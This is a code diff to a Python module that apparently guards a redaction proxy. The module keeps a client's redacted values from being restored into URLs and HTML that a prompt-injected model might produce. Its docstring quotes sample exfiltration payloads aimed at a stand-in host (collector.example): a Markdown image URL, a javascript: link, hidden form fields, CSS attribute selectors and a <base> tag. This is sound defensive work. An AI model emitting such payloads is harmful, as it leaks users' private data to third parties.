@@ -1,4 +1,5 @@
-"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2).
+"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2), a
+relative URL or an HTML tag (atk12 A H1, M1, M2).
 
 A model told by an injected instruction to write `![s](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)` would
 get the client's own renderer to fetch the URL with the real address in it, once restore filled it in. So a
@@ -26,13 +27,24 @@ references decoded (`&#104;ttps`, `htt&#112;s`, `ht&Tab;tps`), Markdown backslas
 `/\\t/host`); where the URL ends is read on the text as written (the body rules above).
 
 `mailto:` and `tel:` are no network schemes (nothing is fetched; the address is the client's own): restored.
+`javascript:` and `vbscript:` start a URL as a network scheme does (atk12 A M2: `[Verify](javascript:open(atob(...)+
+'<EMAIL_ADDRESS_1>'))` sends the value wherever its encoded host says).
 A URL the client itself sent is restored (`Vault.note_urls`): a placeholder whose URL, from its start through the
 placeholder, is the start of a URL of the client's redacted request, as the provider saw it.
-A relative URL (`/p.png?u=...`) goes to the client's own host: restored, unless the answer holds a `<base>` tag or an
-`xml:base` attribute (atk11 A-L3: `<base href="https://collector.example/">` sends every relative URL there): then
-the value of a URL attribute (`src`, `href`, `srcset`, `action`...), of CSS `url(` and of a Markdown link target or
-reference definition is a URL too, whatever it starts with but a scheme (`mailto:`, `tel:`). A stream's or the
-answer's earlier texts tell it with `BASE` at the start of their context (`url_context`, `url_befores`).
+
+A relative URL (`p.png?u=...`) is a URL too, with or without a `<base>` in the answer (atk12 A H1, M1): a `<base>`
+tag or an `xml:base` attribute anywhere in the page the client renders (later in a stream, which cannot take back
+what it sent; in another block, a tool call's arguments or output, another choice; an earlier turn) sends every
+relative URL to its host. The relative URLs read here are a Markdown link target or a reference definition's, with
+its title (a `title` attribute), and an image's alt text (`![...]`, an `alt` attribute); HTML's are in tags:
+- an HTML start tag (`_tag`: from `<name` to the `>` that ends it outside a quoted value; a placeholder is no tag)
+  is kept whole, every attribute: a URL attribute's relative value (`src`, `href`, `srcset`, `action`, CSS
+  `url(` in `style`...), a form field's `value` (atk12 A M2: `<input type="hidden" value=...>` in a form whose
+  `action` is a third party, one click away; `<button formaction value>`, `<input form=...>`), and any other
+  attribute (`alt`, `title`, `data-*`), which a model's `<style>` reads with attribute selectors
+  (`[value^="j"]{background:url(https://collector.example/j)}`, no click); and so is the content of a `<textarea>`
+  or an `<option>` (a form submits it), a `<style>` or a `<script>` (`kept_spans`: tags are never a client URL).
+  A stream keeps an open tag in its context (`url_context`: a long one as its name, `MARK` and an open quote).
 
 The texts of one answer are read in order for URLs (atk11 A-H3: a URL opened in one Anthropic text block, Responses
 part or chat content part and going on in the next, which the SDKs join): each text is read after the context of
@@ -74,11 +86,12 @@ _REMOVED = str.maketrans("", "", "\t\n\r")
 # group: its body); an image's alt text (`![`: an `alt` attribute).
 _RELATIVE = re.compile(r"(?m)(?:\]\(\s*(?P<a><)?|^[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*(?P<r><)?|(?P<alt>!\[))")
 # A Markdown target's title after it (`"..."`, `'...'`, `(...)`: a `title` attribute), open to the text's end too.
-_TITLE = re.compile(r"""[ \t]+(?:"[^"\n]*"?|'[^'\n]*'?|\([^)\n]*\)?)""")
+_TITLE = re.compile(r"""(?=[ \t\n])[ \t]*\n?[ \t]*(?:"[^"\n]*"?|'[^'\n]*'?|\([^)\n]*\)?)""")
 _ALT = re.compile(rf"(?:{_PLACEHOLDER}|[^\]])*")
 # An HTML start tag (`<img`, `<input`, `\\u003cform` in a JSON text; not a placeholder): its name; then its parts
 # (`_tag`): a placeholder (its `>` ends no tag), an attribute value's opening quote after `=`, or other characters.
-_TAG_START = re.compile(r"(?:<|\\u003[cC])(?![A-Z][A-Z0-9_]*_\d+>)([A-Za-z][A-Za-z0-9_.:-]*)(?=[\s/>]|\\[ntrf/]|\Z)")
+_TAG_START = re.compile(r"(?:<|\\u003[cC])(?![A-Z][A-Z0-9_]*_\d+>)([A-Za-z][\w.-]*(?::[A-Za-z][\w.-]*)?)"
+                        r"(?=[\s/>]|\\[ntrf/]|\Z)", re.A)
 _TAG_PART = re.compile(rf"{_PLACEHOLDER}|=(?:\s|\\[ntrf])*(\\?[\"'])|[^>=<]+|[^>]")
 # Elements whose content a form submits or a renderer runs as CSS or script: their content is the tag's too, to the
 # end tag (`<option>`: to the next tag).
@@ -118,27 +131,45 @@ def _spans(text: str, tags: bool = True) -> list[tuple[int, int, int, str]]:
     out: list[tuple[int, int, int, str]] = []
     view, origin = _view(text)
     pos = 0
+    # Each kind's next start, searched again only once `pos` passed it (a text of many tags and no URL: linear).
+    m: re.Match[str] | None = None
+    v: tuple[int, int] | None = None
+    g: tuple[int, int] | None = None
+    r: tuple[int, int, re.Pattern[str]] | None = None
+    t: re.Match[str] | None = None
+    seen = {"m": -1, "v": -1, "g": -1, "r": -1, "t": -1}  # where each was found (-1: to search; len+1: none)
+    none = len(text) + 1
     while True:
-        # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL
-        # (a base set): the first wins (at the same place: the first of these).
+        # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL,
+        # of a tag: the first wins (at the same place: the first of these).
         found: list[tuple[int, int, int, re.Pattern[str] | None]] = []  # (start, rank, end of the start, body)
-        m = START.search(text, pos)
+        if seen["m"] < pos:
+            m = START.search(text, pos)
+            seen["m"] = m.start() if m is not None else none
         if m is not None and m.group("key") is not None:  # a JSON URL field (`"url": "...`, `url_key`): its string
             found.append((m.end(), 0, m.end(), _BODY_QUOTED['"'] if m.group("esc") else _BODY_JSON))
         elif m is not None:
             found.append((m.start(), 0, m.end(), None))
         if origin:
-            at = bisect.bisect_left(origin, pos)
-            v = _first(_VIEW_START.search(view, at), _schemed(view, at))
+            if seen["v"] < pos:
+                at = bisect.bisect_left(origin, pos)
+                v = _first(_VIEW_START.search(view, at), _schemed(view, at))
+                seen["v"] = origin[v[0]] if v is not None else none
             if v is not None:
                 found.append((origin[v[0]], 1, origin[v[1]], None))
-        g = _schemed(text, pos)
+        if seen["g"] < pos:
+            g = _schemed(text, pos)
+            seen["g"] = g[0] if g is not None else none
         if g is not None:
             found.append((g[0], 2, g[1], None))
-        r = _relative(text, pos)
+        if seen["r"] < pos:
+            r = _relative(text, pos)
+            seen["r"] = r[0] if r is not None else none
         if r is not None:
             found.append((r[0], 3, r[1], r[2]))
-        t = _TAG_START.search(text, pos) if tags else None
+        if tags and seen["t"] < pos:
+            t = _TAG_START.search(text, pos)
+            seen["t"] = t.start() if t is not None else none
         if t is not None:
             found.append((t.start(), 4, t.end(), None))
         if not found:
@@ -152,12 +183,24 @@ def _spans(text: str, tags: bool = True) -> list[tuple[int, int, int, str]]:
         if body is None:
             body = _body(text, start)
         end = body.match(text, head).end()  # type: ignore[union-attr]  # `*`: always matches
-        if rank == 3 and body is not _ALT:
-            title = _TITLE.match(text, end)
+        if body is not _ALT and (rank == 3 or _md_target(text, start)):
+            after = end + 1 if text.startswith(">", end) and body is _BODY_ANGLED else end
+            title = _TITLE.match(text, after)
             if title is not None and (title.end() == len(text) or text[title.end()] in ")\n"):
                 end = title.end()  # a Markdown title before the target's `)` or the definition's line end
         out.append((start, head, end, ""))
         pos = max(end, head, start + 1)
+
+
+_REFERENCE = re.compile(r"[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*<?")
+
+
+def _md_target(text: str, start: int) -> bool:
+    """Whether the URL at `start` is a Markdown link target (`](`) or a reference definition's (its title follows)."""
+    if text[max(0, start - 8):start].rstrip(" \t<").endswith("]("):
+        return True
+    line = text.rfind("\n", 0, start) + 1
+    return start - line <= 1010 and _REFERENCE.fullmatch(text, line, start) is not None
 
 
 def _tag(text: str, m: re.Match[str]) -> tuple[int, str]:
